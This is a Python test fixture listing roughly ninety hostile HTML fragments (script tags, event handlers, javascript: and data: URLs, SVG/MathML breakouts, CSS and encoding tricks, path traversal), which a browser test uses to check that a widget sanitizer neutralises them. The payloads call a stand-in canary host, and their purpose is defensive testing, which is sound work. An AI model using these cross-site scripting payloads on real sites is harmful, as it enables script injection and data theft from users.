"""A corpus of hostile widget fragments: every one must come out of the sanitizer harmless.

Each fragment that could run script tries to trip a page-level canary (``window.__pwned``,
``document.title``, a request to ``CANARY_HOST``), so the browser test can prove nothing ran
and nothing left the page. Adding a case is one line.
"""

from __future__ import annotations

from typing import Final

CANARY_HOST: Final = "canary.invalid"
PWN: Final = "window.__pwned=1;document.title='pwned';fetch('http://canary.invalid/x')"
TOKEN: Final = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"

HOSTILE_FRAGMENTS: Final[tuple[tuple[str, str], ...]] = (
    # script, in every spelling
    ("script_tag", f"<script>{PWN}</script>"),
    ("script_upper", f"<SCRIPT>{PWN}</SCRIPT>"),
    ("script_src", "<script src='http://canary.invalid/a.js'></script>"),
    ("script_unclosed", f"<script>{PWN}"),
    ("script_split", f"<scr<script>ipt>{PWN}</scr</script>ipt>"),
    ("script_in_attr_break", f"<div title='x'><script>{PWN}</script></div>"),
    ("script_nul", f"<scr\x00ipt>{PWN}</script>"),
    ("script_type_module", f"<script type='module'>{PWN}</script>"),
    # event handlers
    ("img_onerror", f'<img src=x onerror="{PWN}">'),
    ("img_onerror_token", f"<img src='mimolo://artifact/{TOKEN}' onerror=\"{PWN}\">"),
    ("div_onclick", f'<div onclick="{PWN}">click</div>'),
    ("body_onload", f'<body onload="{PWN}">b</body>'),
    ("onmouseover_upper", f'<p ONMOUSEOVER="{PWN}">hover</p>'),
    ("onfocus_autofocus", f'<div tabindex=0 autofocus onfocus="{PWN}">f</div>'),
    ("details_ontoggle", f'<details open ontoggle="{PWN}"><summary>s</summary></details>'),
    ("video_onerror", f'<video><source onerror="{PWN}"></video>'),
    ("audio_src_onerror", f'<audio src=x onerror="{PWN}"></audio>'),
    ("marquee_onstart", f'<marquee onstart="{PWN}">m</marquee>'),
    ("slash_separator", f'<img/src=x/onerror="{PWN}">'),
    ("animation_handler", f'<span onanimationstart="{PWN}">a</span>'),
    # javascript: / data: / vbscript: / file: URLs
    ("a_javascript", f'<a href="javascript:{PWN}">x</a>'),
    ("a_javascript_entities", '<a href="&#106;&#97;&#118;&#97;&#115;cript:alert(1)">x</a>'),
    ("a_javascript_tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a_javascript_newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("a_javascript_hex", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("a_data_html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("a_vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("img_javascript", f'<img src="javascript:{PWN}">'),
    ("img_data_svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img_data_png", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("img_file", '<img src="file:///etc/passwd">'),
    ("img_absolute_path", '<img src="/etc/passwd">'),
    ("img_relative_traversal", '<img src="../../operations/agent_config.toml">'),
    ("img_http", '<img src="http://canary.invalid/beacon.png">'),
    ("img_protocol_relative", '<img src="//canary.invalid/beacon.png">'),
    ("img_artifact_traversal", '<img src="mimolo://artifact/../../etc/passwd">'),
    ("img_artifact_upper_scheme", f'<img src="MIMOLO://artifact/{TOKEN}">'),
    ("img_artifact_space", f'<img src=" mimolo://artifact/{TOKEN}">'),
    ("img_artifact_suffix", f'<img src="mimolo://artifact/{TOKEN}?x=http://canary.invalid">'),
    ("img_srcset", '<img srcset="http://canary.invalid/a.png 1x">'),
    ("a_href_fragment", '<a href="#settings">jump</a>'),
    ("a_href_http", '<a href="http://canary.invalid/" target="_blank">out</a>'),
    ("a_ping", '<a ping="http://canary.invalid/ping">p</a>'),
    # SVG and MathML tricks
    ("svg_onload", f'<svg onload="{PWN}"></svg>'),
    ("svg_script", f"<svg><script>{PWN}</script></svg>"),
    (
        "svg_animate_href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>x</text></a></svg>",
    ),
    ("svg_foreignobject", f'<svg><foreignObject><img src=x onerror="{PWN}"></foreignObject></svg>'),
    ("svg_use_external", '<svg><use href="http://canary.invalid/a.svg#x"/></svg>'),
    ("math_href", '<math><mtext><a href="javascript:alert(1)">m</a></mtext></math>'),
    ("math_mglyph_style", f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">'),
    ("svg_style_breakout", f'<svg></p><style><a title="</style><img src=x onerror={PWN}>">'),
    # style tags, attributes and CSS tricks
    ("style_tag", "<style>body{background:url(http://canary.invalid/bg.png)}</style>"),
    ("style_attr", '<div style="background:url(http://canary.invalid/bg.png)">s</div>'),
    ("css_expression", '<div style="width:expression(alert(1))">e</div>'),
    ("style_import", "<style>@import 'http://canary.invalid/x.css';</style>"),
    ("link_stylesheet", '<link rel=stylesheet href="http://canary.invalid/x.css">'),
    # embedding and navigation
    ("iframe_src", '<iframe src="http://canary.invalid/"></iframe>'),
    ("iframe_srcdoc", f'<iframe srcdoc="<script>{PWN}</script>"></iframe>'),
    ("object_data", '<object data="http://canary.invalid/x.swf"></object>'),
    ("embed_src", '<embed src="http://canary.invalid/x.swf">'),
    ("base_href", '<base href="http://canary.invalid/"><img src="a.png">'),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=http://canary.invalid/">'),
    (
        "form_action",
        '<form action="http://canary.invalid/"><input name=q value=1><button>go</button></form>',
    ),
    ("button_formaction", '<button formaction="javascript:alert(1)">b</button>'),
    ("input_autofocus", f'<input autofocus onfocus="{PWN}">'),
    ("template_content", f"<template><script>{PWN}</script></template>"),
    ("noscript_breakout", f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
    ("portal", '<portal src="http://canary.invalid/"></portal>'),
    ("frameset", '<frameset><frame src="http://canary.invalid/"></frameset>'),
    # comments, CDATA, entities and encodings
    ("comment_conditional", f"<!--[if IE]><script>{PWN}</script><![endif]-->"),
    ("comment_breakout", f"<!--><script>{PWN}</script>-->"),
    ("cdata", f"<![CDATA[<script>{PWN}</script>]]>"),
    ("entity_encoded_tag", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double_encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("utf7_style", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("fullwidth_brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("rtl_override_title", '<span title="\u202egnp.exe">file</span>'),
    ("zero_width_handler", f'<img src=x o\u200bnerror="{PWN}">'),
    ("lone_surrogate", "<p>\ud800</p><script>alert(1)</script>"),
    # nested and malformed markup
    ("unclosed_attr", f'<img src="x" alt="<script>{PWN}</script>'),
    ("nested_quotes", f'<div title="a"" onclick="{PWN}">q</div>'),
    ("backtick_attr", f"<img src=`x` onerror=`{PWN}`>"),
    ("textarea_breakout", f"<textarea></textarea><script>{PWN}</script></textarea>"),
    ("title_breakout", f"<title></title><script>{PWN}</script>"),
    ("xmp_breakout", f"<xmp><script>{PWN}</script></xmp>"),
    ("deep_nesting", "<div>" * 300 + f"<script>{PWN}</script>" + "</div>" * 300),
    ("table_formatting", f"<table><a><tr><td><script>{PWN}</script></td></tr></a></table>"),
    ("dom_clobber_id", '<img id="csrf" name="csrf" src=x>'),
    ("dom_clobber_form", '<form id="opsLink"><input name="disabled"></form>'),
    ("html_in_alt", f'<img alt=""><script>{PWN}</script>">'),
    ("object_param", '<object><param name="src" value="javascript:alert(1)"></object>'),
)
"""``(case_id, fragment)`` pairs; ids are unique and stable (they name the test cases)."""

CASE_IDS: Final = tuple(case for case, _ in HOSTILE_FRAGMENTS)

__all__ = ["CANARY_HOST", "CASE_IDS", "HOSTILE_FRAGMENTS", "PWN", "TOKEN"]
